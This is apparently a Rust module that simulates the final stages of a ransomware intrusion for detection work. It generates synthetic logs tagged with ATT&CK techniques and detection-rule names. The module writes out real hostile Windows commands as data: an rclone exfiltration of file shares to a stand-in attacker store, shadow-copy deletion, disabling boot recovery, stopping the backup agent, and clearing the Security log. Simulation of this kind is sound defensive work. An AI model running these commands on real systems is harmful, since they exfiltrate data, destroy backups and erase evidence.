//! The ransomware, last act: in the evening the data leaves, before dawn the file server loses its copies, its backup,
//! its files and its log.

use serde_json::json;

use super::clock::at;
use super::network::{Conn, Sensors, ShareFile};
use super::ransomware::{child, exfiltration_begins, mark};
use super::ransomware_spread::remote_desktop;
use super::windows::{Host, Process, log_cleared, service_control};
use super::windows_life::Desk;
use super::world::*;

/// 20:12 to 21:00: rclone, six connections of eight minutes.
pub fn exfiltration(fs: &mut Host, shell: &Process, net: &mut Sensors) {
    let stage = "9-exfiltration";
    let t = exfiltration_begins();
    let copy = mark(
        stage,
        "T1567.002",
        "the shares go out with rclone",
        &["windows/process_creation/rclone_copies_out"],
    );
    let image = "C:\\ProgramData\\rclone.exe";
    let command = "C:\\ProgramData\\rclone.exe copy D:\\Shares pail:tb --transfers 16 --no-check-certificate --max-age 3y";
    let rclone = fs.start(t, &child(image, command, shell, "High"), Some(&copy));
    let asks = mark(stage, "T1567.002", "rclone's connection", &[]);
    let leaves = mark(stage, "T1567.002", "the upload", &["zeek/conn/large_upload_to_internet"]);
    fs.resolves(t.plus_s(1), &rclone, CREW_STORE_NAME, CREW_STORE, Some(&asks));
    net.query(t.plus_s(1), FS.address, CREW_STORE_NAME, "A", CREW_STORE, Some(&asks));
    for part in 0..6 {
        let t = t.plus_s(2 + part * 480);
        fs.connects(t, &rclone, (CREW_STORE, CREW_STORE_NAME, 443), Some(&asks));
        net.handshake(t.plus_ms(20), FS.address, (CREW_STORE, CREW_STORE_NAME), Some(&asks));
        let sent = 118_400_000 + part * 71_003;
        let c = Conn {
            from: FS.address,
            to: CREW_STORE,
            port: 443,
            service: "ssl",
            sent,
            received: 912_004,
            seconds: 470,
        };
        net.connection(t, &c, Some(&leaves));
        net.outbound(t, ("inside", FS.address), (CREW_STORE, 443), (470, sent + 912_004), Some(&asks));
    }
}

/// Thursday, 02:24 to 03:11.
pub fn encryption(fs: &mut Host, desk: &Desk, bo: &mut Host, beacon: &Process, net: &mut Sensors) {
    let stage = "11-impact";
    let shell = remote_desktop(fs, desk, at(3, 2, 24, 40), stage, 3_000);
    no_way_back(fs, &shell);
    let runs = mark(stage, "T1486", "the encryptor starts on the file server", &[]);
    let image = "C:\\ProgramData\\qlock.exe";
    let command = "C:\\ProgramData\\qlock.exe -p D:\\Shares -t 8";
    let t = at(3, 2, 36, 15);
    let locks = fs.start(t, &child(image, command, &shell, "High"), Some(&runs));
    let renamed = mark(stage, "T1486", "a file comes back under a strange ending", &[]);
    let note = mark(stage, "T1486", "a note that asks for money", &[]);
    for i in 0..72 {
        let folder = ["accounts", "sales", "team", "hr"][i % 4];
        let t = t.plus_ms(900 + i as i64 * 310);
        let name = format!("D:\\Shares\\{folder}\\2026\\sheet-{}.xlsx.qlock", 101 + i * 7);
        fs.creates(t, &locks, &name, Some(&renamed));
        if i < 4 {
            let path = format!("D:\\Shares\\{folder}\\HOW-TO-RESTORE.txt");
            fs.creates(t.plus_ms(20), &locks, &path, Some(&note));
        }
    }
    over_the_wire(bo, beacon, net);
    clear(fs, &shell);
}

/// Copies, recovery and backup go first.
fn no_way_back(fs: &mut Host, shell: &Process) {
    let stage = "11-impact";
    let system = |name: &str| format!("C:\\Windows\\System32\\{name}");
    let copies = mark(
        stage,
        "T1490",
        "the shadow copies are deleted",
        &["windows/process_creation/shadow_copies_deleted"],
    );
    let t = at(3, 2, 31, 4);
    let command = "vssadmin.exe delete shadows /all /quiet";
    fs.start(t, &child(&system("vssadmin.exe"), command, shell, "High"), Some(&copies));
    let boot = mark(
        stage,
        "T1490",
        "and the recovery at boot is switched off",
        &["windows/process_creation/boot_recovery_disabled"],
    );
    let command = "bcdedit.exe /set {default} recoveryenabled No";
    fs.start(t.plus_s(21), &child(&system("bcdedit.exe"), command, shell, "High"), Some(&boot));
    let stops = mark(stage, "T1489", "the backup's service is stopped", &[]);
    let command = "net.exe stop \"Vault Backup Agent 7.2\" /y";
    fs.start(t.plus_s(44), &child(&system("net.exe"), command, shell, "High"), Some(&stops));
    fs.service_state(t.plus_s(46), "Vault Backup Agent 7.2", "stopped", Some(&stops));
    let command = "sc.exe config VaultAgent start= disabled";
    fs.start(t.plus_s(58), &child(&system("sc.exe"), command, shell, "High"), Some(&stops));
    fs.put(
        t.plus_s(58).plus_ms(120),
        service_control(7040),
        vec![
            ("param1", json!("Vault Backup Agent 7.2")),
            ("param2", json!("auto start")),
            ("param3", json!("disabled")),
            ("param4", json!("VaultAgent")),
        ],
        Some(&stops),
    );
}

/// Bo's desk locks the firmware share over the network at the same time.
fn over_the_wire(bo: &mut Host, beacon: &Process, net: &mut Sensors) {
    let stage = "11-impact";
    let t = at(3, 2, 40, 2);
    let runs = mark(stage, "T1486", "the encryptor starts on Bo's desk, for a share", &[]);
    let image = "C:\\Windows\\Temp\\qlock.exe";
    let command = "C:\\Windows\\Temp\\qlock.exe -p \\\\TB-FS-01\\firmware -t 2";
    bo.start(t, &child(image, command, beacon, "System"), Some(&runs));
    let renamed = mark(stage, "T1486", "a file of the share gets a strange ending", &[]);
    for i in 0..24 {
        let before = format!("src\\gauge-{i:02}.c");
        let name = format!("{before}.qlock");
        let file = ShareFile {
            share: "\\\\TB-FS-01\\firmware",
            name: &name,
            bytes: 8_192 + i * 77,
            before: &before,
        };
        let t = t.plus_ms(1_400 + i * 450);
        net.share_file(t, WS_BO.address, FS.address, "SMB::FILE_RENAME", file, Some(&renamed));
    }
}

fn clear(fs: &mut Host, shell: &Process) {
    let stage = "11-impact";
    let clears = mark(
        stage,
        "T1070.001",
        "the Security log of the file server is cleared",
        &["windows/process_creation/event_log_cleared_by_command"],
    );
    let t = at(3, 3, 10, 30);
    let image = "C:\\Windows\\System32\\wevtutil.exe";
    let tool = fs.start(t, &child(image, "wevtutil.exe cl Security", shell, "High"), Some(&clears));
    let cleared =
        mark(stage, "T1070.001", "the record that remains of it", &["windows/security/audit_log_cleared"]);
    fs.put(
        t.plus_ms(340),
        log_cleared(),
        vec![
            ("SubjectUserSid", json!(SVC_PRINT.sid())),
            ("SubjectUserName", json!(SVC_PRINT.user)),
            ("SubjectDomainName", json!(NETBIOS)),
            ("SubjectLogonId", json!(shell.logon)),
            ("ClientProcessId", json!(tool.pid)),
            ("ClientProcessStartKey", json!("4503599627371022")),
        ],
        Some(&cleared),
    );
}
